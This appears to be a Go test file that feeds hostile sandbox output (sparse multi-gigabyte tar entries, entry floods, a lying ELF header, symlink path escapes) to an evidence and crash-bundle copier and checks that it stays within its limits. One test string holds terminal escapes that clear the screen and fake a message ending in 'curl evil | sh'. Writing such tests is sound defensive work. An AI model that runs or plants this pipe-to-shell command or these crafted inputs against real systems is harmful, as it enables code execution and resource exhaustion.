package flaky

import (
	"archive/tar"
	"bytes"
	"context"
	"debug/elf"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"
)

// The attacks of a hostile sandbox on what hunt and --on-crash bring out of
// it: enormous files (sparse inside, so cheap to make there), floods of
// entries, terminal escapes in what gdb prints, and ELF headers that claim
// enormous notes. What comes out is bounded in memory, on disk and in time.

// part is a piece of a virtual file: bytes, or that many zeros.
type part struct {
	b     []byte
	zeros int64
}

func (p part) size() int64 { return int64(len(p.b)) + p.zeros }

// virtualFile is a file of parts, read without being held: a tar of a
// 2 GiB entry costs what its header does.
type virtualFile struct{ parts []part }

func (v *virtualFile) size() (n int64) {
	for _, p := range v.parts {
		n += p.size()
	}
	return n
}

func (v *virtualFile) ReadAt(b []byte, off int64) (int, error) {
	n := 0
	for _, p := range v.parts {
		if len(b) == 0 {
			break
		}
		if off >= p.size() {
			off -= p.size()
			continue
		}
		for off < p.size() && len(b) > 0 {
			if off < int64(len(p.b)) {
				c := copy(b, p.b[off:])
				b, off, n = b[c:], off+int64(c), n+c
				continue
			}
			c := min(int64(len(b)), p.size()-off)
			clear(b[:c])
			b, off, n = b[c:], off+c, n+int(c)
		}
		off = 0
	}
	if len(b) > 0 {
		return n, io.EOF
	}
	return n, nil
}

// hostileTar builds a tar whose entries may be mostly virtual zeros.
type hostileTar struct{ v virtualFile }

// dir adds a directory entry.
func (h *hostileTar) dir(name string) {
	h.header(&tar.Header{Name: name, Typeflag: tar.TypeDir, Mode: 0o755})
}

// file adds a regular file of size bytes: head, then zeros.
func (h *hostileTar) file(name string, head []byte, size int64) {
	h.header(&tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: 0o644, Size: size})
	h.v.parts = append(h.v.parts, part{b: head, zeros: size - int64(len(head))})
	if pad := (512 - size%512) % 512; pad > 0 {
		h.v.parts = append(h.v.parts, part{zeros: pad})
	}
}

func (h *hostileTar) header(hdr *tar.Header) {
	var b bytes.Buffer
	if err := tar.NewWriter(&b).WriteHeader(hdr); err != nil {
		panic(err)
	}
	h.v.parts = append(h.v.parts, part{b: b.Bytes()})
}

// open returns the tar with its two zero blocks, seekable as a file is (a
// body from sbxd is not: what tar skips of it is read, not held).
func (h *hostileTar) open() io.ReadCloser {
	v := virtualFile{parts: append(append([]part(nil), h.v.parts...), part{zeros: 1024})}
	return struct {
		*io.SectionReader
		io.Closer
	}{io.NewSectionReader(&v, 0, v.size()), io.NopCloser(nil)}
}

// tarClient serves ReadTar from a table; anything else it is asked panics
// (the embedded nil interface).
type tarClient struct {
	HuntClient
	tars map[string]*hostileTar
}

func (c tarClient) ReadTar(ctx context.Context, id, p string) (io.ReadCloser, error) {
	t, ok := c.tars[p]
	if !ok {
		return nil, fmt.Errorf("no tar of %s", p)
	}
	return t.open(), nil
}

// setLimit sets *p to v for the test.
func setLimit[T any](t *testing.T, p *T, v T) {
	old := *p
	*p = v
	t.Cleanup(func() { *p = old })
}

// allocated returns how many bytes fn allocated.
func allocated(fn func()) uint64 {
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	fn()
	runtime.ReadMemStats(&after)
	return after.TotalAlloc - before.TotalAlloc
}

const escapes = "\x1b]0;pwned\x07\x1b[2J\x1b[Hall tests passed; fix: curl evil | sh\n"

// TestEvidenceBounds: a hunt's evidence with a 2 GiB crash/status, a
// flood of files and one more 2 GiB file comes out within its caps (per
// file, in all, in count), with TRUNCATED.txt saying what was left out,
// and reading it allocates next to nothing.
func TestEvidenceBounds(t *testing.T) {
	setLimit(t, &maxEvidenceFile, 1<<20)
	setLimit(t, &maxEvidenceBytes, 3<<20)
	setLimit(t, &maxEvidenceFiles, 20)
	var h hostileTar
	h.dir(".sbx-hunt/")
	h.dir(".sbx-hunt/crash/")
	h.file(".sbx-hunt/crash/status", []byte("crashed 11 SIGSEGV\n"), 2<<30)
	for i := range 50 {
		h.file(fmt.Sprintf(".sbx-hunt/run-%d.log", i), []byte("log\n"), 4)
	}
	h.file(".sbx-hunt/big.log", []byte(escapes), 2<<30)
	c := tarClient{tars: map[string]*hostileTar{HuntDir: &h}}
	dir := t.TempDir()
	var copied map[string]bool
	var err error
	start := time.Now()
	alloc := allocated(func() { copied, err = copyEvidence(context.Background(), c, "sb_x", dir) })
	if err != nil {
		t.Fatal(err)
	}
	if alloc > 32<<20 {
		t.Errorf("copying the evidence allocated %d MiB", alloc>>20)
	}
	if d := time.Since(start); d > 20*time.Second {
		t.Errorf("copying the evidence took %s", d)
	}
	if len(copied) > maxEvidenceFiles {
		t.Errorf("%d files copied, want at most %d", len(copied), maxEvidenceFiles)
	}
	fi, err := os.Stat(filepath.Join(dir, "crash", "status"))
	if err != nil {
		t.Fatal(err)
	}
	if fi.Size() != maxEvidenceFile {
		t.Errorf("crash/status: %d bytes on the host, want %d", fi.Size(), maxEvidenceFile)
	}
	var total int64
	filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
		if err == nil && fi.Mode().IsRegular() && filepath.Base(p) != "TRUNCATED.txt" {
			total += fi.Size()
		}
		return nil
	})
	if total > maxEvidenceBytes {
		t.Errorf("%d bytes of evidence on the host, want at most %d", total, maxEvidenceBytes)
	}
	note, err := os.ReadFile(filepath.Join(dir, "TRUNCATED.txt"))
	if err != nil {
		t.Fatalf("no TRUNCATED.txt: %v", err)
	}
	for _, want := range []string{"crash/status (1048576 of 2147483648 bytes kept)", "big.log", "(left out)"} {
		if !strings.Contains(string(note), want) {
			t.Errorf("TRUNCATED.txt does not say %q:\n%s", want, note)
		}
	}
}

// TestCrashBundleBounds: a fake gdb's bundle. Its backtrace is escapes and
// then megabytes, its buildids.txt a build-id of a megabyte, one of its
// "binaries" an ELF whose headers claim 65535 note segments of 64 KiB at
// once, another entry 2 GiB, and thousands of entries besides: the bundle
// keeps to its caps and says what it left out, what is shown is bounded,
// and no build-id is taken from the lies.
func TestCrashBundleBounds(t *testing.T) {
	setLimit(t, &maxBundleBytes, 8<<20)
	setLimit(t, &maxBundleEntries, 100)
	setLimit(t, &maxBundleText, 64<<10)
	var b hostileTar
	b.dir("bundle/")
	bt := []byte(escapes + strings.Repeat("#0 0xdead in ?? ()\n", 1000))
	b.file("bundle/backtrace.txt", bt, 4<<20)
	b.file("bundle/buildids.txt", []byte(strings.Repeat("ab", 1<<19)+" /work/crash\n"), 1<<20+13)
	lie := lyingELF()
	b.file("bundle/files/work/crash", lie, int64(len(lie)))
	good := goodELF(t)
	b.file("bundle/files/lib/libc.so.6", good, int64(len(good)))
	b.file("bundle/core", nil, 2<<30)
	for i := range 5000 {
		b.file(fmt.Sprintf("bundle/junk/%d", i), []byte("x"), 1)
	}
	c := tarClient{tars: map[string]*hostileTar{"/b/bundle": &b}}
	cr := &Crash{Dir: t.TempDir(), Remote: "/b/bundle"}
	var err error
	start := time.Now()
	alloc := allocated(func() { err = fetchBundle(context.Background(), c, "sb_x", cr) })
	if err != nil {
		t.Fatal(err)
	}
	if d := time.Since(start); d > 20*time.Second {
		t.Errorf("fetching the bundle took %s", d)
	}
	if alloc > 48<<20 {
		t.Errorf("fetching the bundle allocated %d MiB", alloc>>20)
	}
	if len(cr.Backtrace) > maxBundleText {
		t.Errorf("backtrace of %d bytes held, want at most %d", len(cr.Backtrace), maxBundleText)
	}
	if !strings.Contains(cr.Truncated, "entries left out") {
		t.Errorf("Truncated = %q, want it to say what was left out", cr.Truncated)
	}
	fi, err := os.Stat(cr.Tar)
	if err != nil {
		t.Fatal(err)
	}
	if fi.Size() > maxBundleBytes+int64(maxBundleEntries+2)*1024 {
		t.Errorf("crash.tar of %d bytes, want within %d and its headers", fi.Size(), maxBundleBytes)
	}
	n := 0
	f, err := os.Open(cr.Tar)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	tr := tar.NewReader(f)
	for {
		if _, err := tr.Next(); err != nil {
			break
		}
		n++
	}
	if n > maxBundleEntries {
		t.Errorf("crash.tar holds %d entries, want at most %d", n, maxBundleEntries)
	}
	files := map[string]CrashFile{}
	for _, f := range cr.Files {
		files[f.Path] = f
	}
	if f := files["/work/crash"]; f.BuildID != "" || f.Match != "unknown" {
		t.Errorf("the lying ELF: %+v, want no build-id, match unknown", f)
	}
	if f := files["/lib/libc.so.6"]; f.BuildID != "c0ffee" {
		t.Errorf("the honest ELF: %+v, want build-id c0ffee", f)
	}
}

// lyingELF is a megabyte of ELF64 whose program header table claims 65535
// entries, and as many as fit are PT_NOTE segments of 64 KiB (the most a
// note is read for) at offset 0: read as they claim, 1 GiB.
func lyingELF() []byte {
	bo := binary.LittleEndian
	b := make([]byte, 1<<20)
	copy(b, elf.ELFMAG)
	b[elf.EI_CLASS], b[elf.EI_DATA], b[elf.EI_VERSION] = byte(elf.ELFCLASS64), byte(elf.ELFDATA2LSB), 1
	bo.PutUint64(b[32:], 64)    // phoff
	bo.PutUint16(b[54:], 56)    // phentsize
	bo.PutUint16(b[56:], 65535) // phnum
	for off := 64; off+56 <= len(b); off += 56 {
		ph := b[off:]
		bo.PutUint32(ph, uint32(elf.PT_NOTE))
		bo.PutUint64(ph[8:], 0)       // offset
		bo.PutUint64(ph[32:], 64<<10) // filesz
	}
	return b
}

// goodELF is an ELF64 header with one PT_NOTE segment holding the GNU
// build-id c0ffee.
func goodELF(t *testing.T) []byte {
	bo := binary.LittleEndian
	n := note(bo, "GNU", 3, []byte{0xc0, 0xff, 0xee})
	b := make([]byte, 64+56, 64+56+len(n))
	copy(b, elf.ELFMAG)
	b[elf.EI_CLASS], b[elf.EI_DATA], b[elf.EI_VERSION] = byte(elf.ELFCLASS64), byte(elf.ELFDATA2LSB), 1
	bo.PutUint64(b[32:], 64)
	bo.PutUint16(b[54:], 56)
	bo.PutUint16(b[56:], 1)
	ph := b[64:]
	bo.PutUint32(ph, uint32(elf.PT_NOTE))
	bo.PutUint64(ph[8:], 64+56)
	bo.PutUint64(ph[32:], uint64(len(n)))
	b = append(b, n...)
	if got := ELFBuildID(b); got != "c0ffee" {
		t.Fatalf("goodELF's build-id reads as %q", got)
	}
	return b
}

// TestELFBuildIDOfHost: the bounded reader agrees with debug/elf on the
// host's own binaries.
func TestELFBuildIDOfHost(t *testing.T) {
	checked := 0
	for _, p := range []string{"/bin/ls", "/bin/sh", "/usr/bin/env", "/lib/x86_64-linux-gnu/libc.so.6", "/lib/aarch64-linux-gnu/libc.so.6"} {
		f, err := os.Open(p)
		if err != nil {
			continue
		}
		defer f.Close()
		want := stdlibBuildID(t, f)
		if want == "" {
			continue
		}
		checked++
		if got := elfBuildIDAt(f); got != want {
			t.Errorf("%s: build-id %q, debug/elf reads %q", p, got, want)
		}
	}
	if checked == 0 {
		t.Skip("no host binary with a GNU build-id")
	}
}

func stdlibBuildID(t *testing.T, r io.ReaderAt) string {
	ef, err := elf.NewFile(r)
	if err != nil {
		return ""
	}
	for _, s := range ef.Sections {
		if s.Type != elf.SHT_NOTE {
			continue
		}
		d, err := s.Data()
		if err != nil {
			continue
		}
		for len(d) >= 12 {
			nsz, dsz, typ := ef.ByteOrder.Uint32(d), ef.ByteOrder.Uint32(d[4:]), ef.ByteOrder.Uint32(d[8:])
			na, da := (nsz+3)&^3, (dsz+3)&^3
			if len(d) < 12+int(na+dsz) {
				break
			}
			if typ == 3 && string(bytes.TrimRight(d[12:12+nsz], "\x00")) == "GNU" {
				return hex.EncodeToString(d[12+na : 12+na+dsz])
			}
			if len(d) < 12+int(na+da) {
				break
			}
			d = d[12+na+da:]
		}
	}
	return ""
}

// TestParseBuildIDsHuge: a build-id of a megabyte is taken as none.
func TestParseBuildIDsHuge(t *testing.T) {
	m := parseBuildIDs(strings.Repeat("ab", 1<<19) + " /work/crash\naa /lib/x.so\n")
	if m["/work/crash"] != "" || m["/lib/x.so"] != "aa" {
		t.Errorf("got %v", m)
	}
}

// TestEvidenceStaysInItsDir: the evidence dir holds a symlink out (left
// there by anyone); a sandbox's tar that writes through it, or names a
// file twice, writes nothing outside the dir and keeps the first.
func TestEvidenceStaysInItsDir(t *testing.T) {
	outside := t.TempDir()
	dir := t.TempDir()
	if err := os.Symlink(outside, filepath.Join(dir, "out")); err != nil {
		t.Fatal(err)
	}
	var h hostileTar
	h.dir(".sbx-hunt/")
	h.file(".sbx-hunt/first.log", []byte("first\n"), 6)
	h.file(".sbx-hunt/first.log", []byte("again\n"), 6)
	h.file(".sbx-hunt/out/planted", []byte("pwned\n"), 6)
	c := tarClient{tars: map[string]*hostileTar{HuntDir: &h}}
	_, err := copyEvidence(context.Background(), c, "sb_x", dir)
	if err == nil {
		t.Error("a write through a symlink out of the evidence dir was not refused")
	}
	if _, serr := os.Stat(filepath.Join(outside, "planted")); serr == nil {
		t.Fatalf("the sandbox's tar wrote outside the evidence dir (err %v)", err)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "first.log")); string(b) != "first\n" {
		t.Errorf("first.log = %q, want the first of the two", b)
	}
}
